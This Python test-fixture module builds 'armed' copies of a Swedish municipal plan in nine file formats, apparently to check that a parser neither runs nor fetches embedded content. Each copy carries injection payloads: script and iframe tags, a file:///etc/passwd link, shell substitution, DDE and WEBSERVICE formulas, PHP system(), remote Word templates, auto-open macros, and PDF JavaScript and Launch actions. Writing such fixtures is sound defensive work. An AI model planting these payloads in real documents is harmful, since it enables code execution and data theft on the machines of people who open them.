"""Plans of every format, good ones, with what each format has for running code and fetching things put into them."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl

_FIXTURES = Path(__file__).resolve().parent.parent / "formats" / "fixtures"

TEXT = """# Plan för miljönämnden 2026

## Mål 1: Renare luft

<script src="{url}a.js">open("ran", "w")</script>
<iframe src="{url}b"></iframe> <img src="{url}c.png" onerror="alert(1)">
![bild]({url}d.png) [länk](file:///etc/passwd) {{{{ config.__class__ }}}} $(touch ran) `touch ran` %0a=cmd|' /C calc'!A0

<!--#include virtual="{url}e" -->
<?php system('touch ran'); ?>

Ansvarig: Miljöchefen
"""


def armed_plans(url: str) -> dict[str, bytes]:
    """Suffix to file; ``url`` is what they would fetch from."""
    return {
        ".md": TEXT.format(url=url).encode(),
        ".txt": TEXT.format(url=url).encode(),
        ".html": _page(url),
        ".docx": _zip("kort-plan.docx", _word(url)),
        ".docm": _zip("kort-plan.docx", _word(url)),
        ".odt": _zip("kort-plan.odt", _open_document(url)),
        ".pdf": _pdf(url),
        ".xlsx": _workbook(url),
        ".xlsm": _workbook(url),
    }


def _page(url: str) -> bytes:
    armed = (
        f'<meta http-equiv="refresh" content="0;url={url}"><link rel="stylesheet" href="{url}s.css">'
        f'<script src="{url}a.js"></script><script>fetch("{url}")</script><base href="{url}">'
        f'<object data="{url}o"></object><embed src="{url}m"><svg onload="fetch(\'{url}\')"></svg>'
    )
    return (_FIXTURES / "kort-plan.html").read_bytes().replace(b"</body>", armed.encode() + b"</body>")


def _word(url: str) -> dict[str, bytes]:
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return {
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen() Shell" * 20,
        "word/_rels/settings.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{relation}/attachedTemplate" Target="{url}t.dotm" TargetMode="External"/>'
            "</Relationships>"
        ).encode(),
    }


def _open_document(url: str) -> dict[str, bytes]:
    return {
        "Basic/Standard/Module1.xml": b'<script:module>Sub Main: Shell("touch ran"): End Sub</script:module>',
        "Scripts/python/ran.py": b"open('ran', 'w')",
        "META-INF/macrosignatures.xml": f"<a href='{url}'/>".encode(),
    }


def _pdf(url: str) -> bytes:
    action = f"/OpenAction<</S/JavaScript/JS(app.launchURL('{url}');)>>/AA<</WC<</S/Launch/F(/bin/touch)>>>>"
    data = (_FIXTURES / "kort-plan.pdf").read_bytes()
    armed, count = re.subn(rb"/Type\s*/Catalog", b"/Type/Catalog" + action.encode(), data)
    assert count, "the fixture's catalogue stands in the open"
    return armed


def _workbook(url: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (
        ["Mål 1: Renare luft"],
        [],
        ["Indikator", "Utgångsvärde", "Målvärde"],
        ["Halten av partiklar", f'=WEBSERVICE("{url}")', "=cmd|' /C calc'!A0"],
        [f'=HYPERLINK("{url}";"Ansvarig")', "='[http://127.0.0.1/b.xlsx]A'!A1", 5],
    ):
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return _with(
        out.getvalue(), {"xl/vbaProject.bin": b"Sub Auto_Open()", "xl/externalLinks/externalLink1.xml": b"<x/>"}
    )


def _zip(fixture: str, more: dict[str, bytes]) -> bytes:
    return _with((_FIXTURES / fixture).read_bytes(), more)


def _with(data: bytes, more: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            if name not in more:
                made.writestr(name, source.read(name))
        for name, member in more.items():
            made.writestr(name, member)
    return out.getvalue()
